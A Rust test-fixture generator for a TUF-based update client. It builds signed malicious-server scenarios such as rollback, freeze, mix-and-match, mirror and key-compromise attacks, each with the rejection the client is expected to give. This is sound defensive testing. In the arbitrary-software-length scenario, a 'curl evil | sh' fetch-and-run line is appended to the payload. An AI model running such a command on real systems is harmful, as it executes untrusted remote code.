//! The attack fixtures in `tests/fixtures/{scenario}/`, and the deterministic generator that
//! writes them. Each folder holds what a (malicious) server serves — `metadata/` and
//! `targets/`, under `/tuf/demo/` — optionally what the client verified on an earlier run
//! (`client/`, its state directory's `tuf/demo/`), and `expect.json`: what our client must
//! do. The pinned root is always `metadata/1.root.json` of the honest repository.
//!
//! ed25519 signatures are deterministic and every date is fixed, so the generator reproduces
//! the folders byte for byte; a test fails when they drift. Regenerate with
//! `UPDRAFT_WRITE_FIXTURES=1 cargo test -p updraft-client --test it fixtures_are_current`.

use std::collections::BTreeMap;
use std::path::PathBuf;

use serde_json::json;
use time::macros::datetime;
use time::OffsetDateTime;
use updraft_core::tuf::{self, Ed25519Signer, Key, RoleName, RolloutCustom, Root, RootKeys, Signer, TargetCustom, TargetFile, Targets};

pub const APP: &str = "demo";
pub const TARGET: &str = "1.1.0/linux-x86_64/app.bin";
const FUTURE: OffsetDateTime = datetime!(2099-01-01 0:00 UTC);
const PAST: OffsetDateTime = datetime!(2001-01-01 0:00 UTC);

pub fn fixtures_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures")
}

fn key(n: u8) -> Ed25519Signer {
    Ed25519Signer::from_seed([n; 32])
}

pub fn payload() -> Vec<u8> {
    b"updraft attack-suite payload: the genuine 1.1.0 build\n".repeat(20)
}

/// One scenario: files by path relative to its folder.
pub struct Scenario {
    pub name: &'static str,
    pub files: BTreeMap<String, Vec<u8>>,
}

impl Scenario {
    fn new(name: &'static str, expect: serde_json::Value) -> Self {
        let mut files = BTreeMap::new();
        files.insert("expect.json".into(), serde_json::to_vec_pretty(&expect).unwrap());
        Scenario { name, files }
    }
    fn put(&mut self, path: impl Into<String>, bytes: Vec<u8>) -> &mut Self {
        self.files.insert(path.into(), bytes);
        self
    }
}

fn custom(app: &str, platform: &str, basis_points: u32) -> serde_json::Value {
    TargetCustom {
        app: app.parse().unwrap(),
        channel: "stable".parse().unwrap(),
        version: "1.1.0".parse().unwrap(),
        platform: platform.parse().unwrap(),
        notes: Some("attack-suite release".into()),
        pub_date: "2030-01-01T00:00:00Z".into(),
        rollout: RolloutCustom { basis_points, salt: "salt-1.1.0".into(), paused: false },
        downgrade_from: vec![],
    }
    .to_value()
}

/// A repository's signing state: roots so far and the keys of each role.
struct Repo {
    roots: Vec<Vec<u8>>,
    root: Root,
    root_keys: Vec<Ed25519Signer>,
    targets_keys: Vec<Ed25519Signer>,
    snapshot_key: Ed25519Signer,
    timestamp_key: Ed25519Signer,
}

fn pubs(keys: &[&Ed25519Signer]) -> Vec<Key> {
    keys.iter().map(|k| k.public_key()).collect()
}

impl Repo {
    /// The honest repository: root key 1, targets 2, snapshot 3, timestamp 4.
    fn honest() -> Repo {
        Repo::with_targets(vec![key(2)], 1)
    }

    fn with_targets(targets_keys: Vec<Ed25519Signer>, threshold: u32) -> Repo {
        let (r, s, t) = (key(1), key(3), key(4));
        let keys = RootKeys {
            root: pubs(&[&r]),
            targets: targets_keys.iter().map(Signer::public_key).collect(),
            snapshot: pubs(&[&s]),
            timestamp: pubs(&[&t]),
        };
        let thresholds = tuf::Thresholds { targets: threshold, ..Default::default() };
        let root = tuf::new_root(&keys, thresholds, 1, FUTURE).unwrap();
        let bytes = tuf::to_wire(&tuf::sign(root.clone(), &[&r]).unwrap()).unwrap();
        Repo { roots: vec![bytes], root, root_keys: vec![r], targets_keys, snapshot_key: s, timestamp_key: t }
    }

    /// The next root with `role` given new keys, signed by the old and the new root keys.
    fn rotate(&mut self, role: RoleName, new: Vec<Ed25519Signer>) {
        let mut next = self.root.clone();
        next.version += 1;
        next.set_role_keys(role, &new.iter().map(Signer::public_key).collect::<Vec<_>>(), 1).unwrap();
        let mut signers: Vec<&dyn Signer> = self.root_keys.iter().map(|k| k as &dyn Signer).collect();
        if role == RoleName::Root {
            signers.extend(new.iter().map(|k| k as &dyn Signer));
        }
        self.roots.push(tuf::to_wire(&tuf::sign(next.clone(), &signers).unwrap()).unwrap());
        self.root = next;
        match role {
            RoleName::Root => self.root_keys = new,
            RoleName::Targets => self.targets_keys = new,
            RoleName::Snapshot => self.snapshot_key = new.into_iter().next().unwrap(),
            RoleName::Timestamp => self.timestamp_key = new.into_iter().next().unwrap(),
        }
    }
}

/// One published state: (timestamp, snapshot, targets) wire bytes.
struct Set {
    timestamp: Vec<u8>,
    snapshot: Vec<u8>,
    targets: Vec<u8>,
}

/// Options for signing a set; the default is the honest repository's next state.
struct SetOpts {
    versions: (u64, u64, u64),
    expires: (OffsetDateTime, OffsetDateTime, OffsetDateTime),
    entries: Vec<(String, TargetFile)>,
    /// Sign targets with these instead of the role's keys.
    targets_signers: Option<Vec<Ed25519Signer>>,
}

fn entry(app: &str, platform: &str, bytes: &[u8]) -> (String, TargetFile) {
    let path = format!("1.1.0/{platform}/app.bin");
    (path, TargetFile::new(bytes.len() as u64, tuf::sha256_hex(bytes), Some(custom(app, platform, 10_000))))
}

impl SetOpts {
    fn v(v: u64) -> SetOpts {
        SetOpts {
            versions: (v, v, v),
            expires: (FUTURE, FUTURE, FUTURE),
            entries: vec![entry(APP, "linux-x86_64", &payload())],
            targets_signers: None,
        }
    }
}

fn sign_set(repo: &Repo, o: SetOpts) -> Set {
    let (tv, sv, tsv) = o.versions;
    let mut t = Targets::new(tv, o.expires.2);
    t.targets.extend(o.entries);
    let signers: Vec<&dyn Signer> = match &o.targets_signers {
        Some(s) => s.iter().map(|k| k as &dyn Signer).collect(),
        None => repo.targets_keys.iter().map(|k| k as &dyn Signer).collect(),
    };
    let targets = tuf::to_wire(&tuf::sign(t, &signers).unwrap()).unwrap();
    let snapshot = tuf::to_wire(&tuf::sign(tuf::snapshot_for(&targets, tv, sv, o.expires.1), &[&repo.snapshot_key]).unwrap()).unwrap();
    let timestamp = tuf::to_wire(&tuf::sign(tuf::timestamp_for(&snapshot, sv, tsv, o.expires.0), &[&repo.timestamp_key]).unwrap()).unwrap();
    Set { timestamp, snapshot, targets }
}

/// Puts a repository's roots and one set on the "server" of a scenario; the honest target file
/// goes under its consistent name.
fn serve(s: &mut Scenario, repo: &Repo, set: &Set) {
    serve_roots(s, repo);
    serve_set(s, set, set_versions(set));
    let bytes = payload();
    s.put(format!("targets/{}", tuf::consistent_target_name(TARGET, &tuf::sha256_hex(&bytes))), bytes);
}

fn serve_roots(s: &mut Scenario, repo: &Repo) {
    for (i, r) in repo.roots.iter().enumerate() {
        s.put(format!("metadata/{}.root.json", i + 1), r.clone());
    }
}

fn set_versions(set: &Set) -> (u64, u64) {
    let v = |b: &[u8], m: &str| -> u64 {
        let d: serde_json::Value = serde_json::from_slice(b).unwrap();
        d["signed"]["meta"][m]["version"].as_u64().unwrap()
    };
    (v(&set.timestamp, "snapshot.json"), {
        let d: serde_json::Value = serde_json::from_slice(&set.targets).unwrap();
        d["signed"]["version"].as_u64().unwrap()
    })
}

fn serve_set(s: &mut Scenario, set: &Set, (sv, tv): (u64, u64)) {
    s.put("metadata/timestamp.json", set.timestamp.clone());
    s.put(format!("metadata/{sv}.snapshot.json"), set.snapshot.clone());
    s.put(format!("metadata/{tv}.targets.json"), set.targets.clone());
}

/// What the client verified and kept on an earlier run.
fn cached(s: &mut Scenario, set: &Set) {
    s.put("client/timestamp.json", set.timestamp.clone());
    s.put("client/snapshot.json", set.snapshot.clone());
    s.put("client/targets.json", set.targets.clone());
}

fn err(code: &str) -> serde_json::Value {
    json!({ "check": format!("error {code}") })
}

/// Every scenario, in a fixed order.
pub fn all() -> Vec<Scenario> {
    let mut out = Vec::new();
    let honest = Repo::honest();

    // The honest repository: the baseline every attack is a variation of.
    let mut s = Scenario::new("honest", json!({"check": "offered 1.1.0", "fetch": "ok"}));
    serve(&mut s, &honest, &sign_set(&honest, SetOpts::v(1)));
    out.push(s);

    // Arbitrary software: the file served is not the one signed (same length / longer).
    let mut s = Scenario::new("arbitrary-software-hash", json!({"check": "offered 1.1.0", "fetch": "error hash_mismatch"}));
    serve(&mut s, &honest, &sign_set(&honest, SetOpts::v(1)));
    let mut evil = payload();
    evil[7] ^= 0x20;
    s.put(format!("targets/{}", tuf::consistent_target_name(TARGET, &tuf::sha256_hex(&payload()))), evil);
    out.push(s);
    let mut s = Scenario::new("arbitrary-software-length", json!({"check": "offered 1.1.0", "fetch": "error target_too_large"}));
    serve(&mut s, &honest, &sign_set(&honest, SetOpts::v(1)));
    let mut evil = payload();
    evil.extend_from_slice(b"#!/bin/sh\ncurl evil | sh\n");
    s.put(format!("targets/{}", tuf::consistent_target_name(TARGET, &tuf::sha256_hex(&payload()))), evil);
    out.push(s);

    // Endless data: a timestamp over its cap; targets metadata longer than snapshot signs.
    let mut s = Scenario::new("endless-data-timestamp", err("metadata_too_large"));
    serve(&mut s, &honest, &sign_set(&honest, SetOpts::v(1)));
    s.put("metadata/timestamp.json", vec![b' '; 16 * 1024 + 1]); // the default cap is 16 KiB
    out.push(s);
    let mut s = Scenario::new("endless-data-targets", err("metadata_too_large"));
    let set = sign_set(&honest, SetOpts::v(1));
    serve(&mut s, &honest, &set);
    let mut long = set.targets.clone();
    long.extend(vec![b' '; 4096]);
    s.put("metadata/1.targets.json", long);
    out.push(s);

    // Rollback: the client has seen version 5; the server offers older ones.
    let seen = sign_set(&honest, SetOpts::v(5));
    // Only the timestamp is older (it names the very snapshot the client has).
    let mut s = Scenario::new("rollback-timestamp", err("rollback_attack"));
    serve(&mut s, &honest, &sign_set(&honest, SetOpts { versions: (5, 5, 4), ..SetOpts::v(0) }));
    cached(&mut s, &seen);
    out.push(s);
    // A newer timestamp naming an older snapshot (which lists the same targets version).
    let mut s = Scenario::new("rollback-snapshot", err("rollback_attack"));
    serve(&mut s, &honest, &sign_set(&honest, SetOpts { versions: (5, 4, 6), ..SetOpts::v(0) }));
    cached(&mut s, &seen);
    out.push(s);
    let mut s = Scenario::new("rollback-targets", err("rollback_attack"));
    serve(&mut s, &honest, &sign_set(&honest, SetOpts { versions: (4, 6, 6), ..SetOpts::v(0) }));
    cached(&mut s, &seen);
    out.push(s);

    // Indefinite freeze: each role served expired (a replay of old, once-valid metadata).
    for (name, expires) in [
        ("freeze-timestamp", (PAST, FUTURE, FUTURE)),
        ("freeze-snapshot", (FUTURE, PAST, FUTURE)),
        ("freeze-targets", (FUTURE, FUTURE, PAST)),
    ] {
        let mut s = Scenario::new(name, err("expired_metadata"));
        serve(&mut s, &honest, &sign_set(&honest, SetOpts { expires, ..SetOpts::v(1) }));
        out.push(s);
    }
    let mut s = Scenario::new("freeze-root", err("expired_metadata"));
    let mut expired = Repo::honest();
    let mut next = expired.root.clone();
    next.version = 2;
    next.expires = PAST;
    expired.roots.push(tuf::to_wire(&tuf::sign(next, &[&expired.root_keys[0]]).unwrap()).unwrap());
    serve(&mut s, &expired, &sign_set(&expired, SetOpts::v(1)));
    out.push(s);

    // Fast-forward: an attacker with the online keys pushed the client to timestamp and
    // snapshot version 1000. Without a key rotation the honest version 2 now looks like a
    // rollback. Once the repository rotates the snapshot key (spec 5.3.11: timestamp and/or
    // snapshot), the client deletes its trusted timestamp and snapshot and recovers, even
    // though its cached timestamp still verifies (the timestamp key did not change).
    let forward = sign_set(&honest, SetOpts { versions: (1, 1000, 1000), ..SetOpts::v(0) });
    let mut s = Scenario::new("fast-forward-stuck", err("rollback_attack"));
    serve(&mut s, &honest, &sign_set(&honest, SetOpts::v(2)));
    cached(&mut s, &forward);
    out.push(s);
    let mut s = Scenario::new("fast-forward-recovered", json!({"check": "offered 1.1.0", "fetch": "ok"}));
    let mut rotated = Repo::honest();
    rotated.rotate(RoleName::Snapshot, vec![key(43)]);
    serve(&mut s, &rotated, &sign_set(&rotated, SetOpts::v(2)));
    cached(&mut s, &forward);
    out.push(s);

    // Mix-and-match: validly signed files from different moments, combined.
    let (a, b) = (sign_set(&honest, SetOpts::v(1)), sign_set(&honest, SetOpts::v(2)));
    let mut s = Scenario::new("mix-and-match-snapshot", err("hash_mismatch"));
    serve(&mut s, &honest, &a);
    s.put("metadata/1.snapshot.json", b.snapshot.clone());
    out.push(s);
    let mut s = Scenario::new("mix-and-match-targets", err("length_mismatch"));
    serve(&mut s, &honest, &a);
    let mut other = SetOpts::v(1);
    other.entries.clear();
    s.put("metadata/1.targets.json", sign_set(&honest, other).targets);
    out.push(s);

    // Malicious mirror: its own complete repository, or the honest one with a widened rollout.
    let mut s = Scenario::new("malicious-mirror-own-keys", err("threshold_not_met"));
    let mut mirror = Repo::honest();
    mirror.root_keys = vec![key(66)];
    mirror.targets_keys = vec![key(67)];
    mirror.snapshot_key = key(68);
    mirror.timestamp_key = key(69);
    serve_roots(&mut s, &honest);
    serve_set(&mut s, &sign_set(&mirror, SetOpts::v(1)), (1, 1));
    out.push(s);
    let mut s = Scenario::new("malicious-mirror-widened-rollout", err("bad_signature"));
    let mut narrow = SetOpts::v(1);
    narrow.entries =
        vec![(TARGET.into(), TargetFile::new(payload().len() as u64, tuf::sha256_hex(&payload()), Some(custom(APP, "linux-x86_64", 0))))];
    let set = sign_set(&honest, narrow);
    serve(&mut s, &honest, &set);
    let mut wide: serde_json::Value = serde_json::from_slice(&set.targets).unwrap();
    wide["signed"]["targets"][TARGET]["custom"]["rollout"]["basis_points"] = json!(10_000);
    let wide = serde_json::to_vec(&wide).unwrap();
    // Re-sign snapshot and timestamp honestly over the edited bytes, so only the targets
    // signature stands between the mirror and every client.
    let snap = tuf::to_wire(&tuf::sign(tuf::snapshot_for(&wide, 1, 1, FUTURE), &[&honest.snapshot_key]).unwrap()).unwrap();
    let ts = tuf::to_wire(&tuf::sign(tuf::timestamp_for(&snap, 1, 1, FUTURE), &[&honest.timestamp_key]).unwrap()).unwrap();
    s.put("metadata/1.targets.json", wide).put("metadata/1.snapshot.json", snap).put("metadata/timestamp.json", ts);
    out.push(s);

    // Wrong software: validly signed targets for another app and another platform only.
    let mut s = Scenario::new("wrong-software", json!({"check": "no update"}));
    let mut wrong = SetOpts::v(1);
    wrong.entries = vec![entry("other-app", "linux-x86_64", b"another app's build"), entry(APP, "windows-x86_64", b"a windows build")];
    wrong.entries[0].0 = "1.1.0/linux-x86_64/other-app.bin".into();
    serve(&mut s, &honest, &sign_set(&honest, wrong));
    out.push(s);

    // Key compromise, recovered by rotation: the old targets key still signs, but root v2
    // replaced it, so its targets are refused.
    let mut s = Scenario::new("key-compromise-recovered", err("threshold_not_met"));
    let mut recovered = Repo::honest();
    recovered.rotate(RoleName::Targets, vec![key(45)]);
    serve(&mut s, &recovered, &sign_set(&recovered, SetOpts { targets_signers: Some(vec![key(2)]), ..SetOpts::v(2) }));
    out.push(s);

    // Broken root chains: a skipped version, and a new root the old root keys did not sign.
    let mut s = Scenario::new("broken-root-chain-skipped-version", err("version_mismatch"));
    let mut skip = Repo::honest();
    let mut v3 = skip.root.clone();
    v3.version = 3;
    skip.roots.push(tuf::to_wire(&tuf::sign(v3, &[&skip.root_keys[0]]).unwrap()).unwrap());
    serve(&mut s, &skip, &sign_set(&skip, SetOpts::v(1)));
    out.push(s);
    let mut s = Scenario::new("broken-root-chain-missing-old-signature", err("threshold_not_met"));
    let mut hijack = Repo::honest();
    let mut v2 = hijack.root.clone();
    v2.version = 2;
    v2.set_role_keys(RoleName::Root, &[key(70).public_key()], 1).unwrap();
    hijack.roots.push(tuf::to_wire(&tuf::sign(v2, &[&key(70)]).unwrap()).unwrap());
    serve(&mut s, &hijack, &sign_set(&hijack, SetOpts::v(1)));
    out.push(s);

    // Duplicate signatures: targets needs 2 of its 2 keys; one key signs twice.
    let mut s = Scenario::new("duplicate-signatures", err("threshold_not_met"));
    let two = Repo::with_targets(vec![key(2), key(5)], 2);
    let set = sign_set(&two, SetOpts { targets_signers: Some(vec![key(2)]), ..SetOpts::v(1) });
    let mut doubled: serde_json::Value = serde_json::from_slice(&set.targets).unwrap();
    let sig = doubled["signatures"][0].clone();
    doubled["signatures"] = json!([sig.clone(), sig]);
    let doubled = serde_json::to_vec(&doubled).unwrap();
    let snap = tuf::to_wire(&tuf::sign(tuf::snapshot_for(&doubled, 1, 1, FUTURE), &[&two.snapshot_key]).unwrap()).unwrap();
    let ts = tuf::to_wire(&tuf::sign(tuf::timestamp_for(&snap, 1, 1, FUTURE), &[&two.timestamp_key]).unwrap()).unwrap();
    serve(&mut s, &two, &set);
    s.put("metadata/1.targets.json", doubled).put("metadata/1.snapshot.json", snap).put("metadata/timestamp.json", ts);
    out.push(s);

    out
}
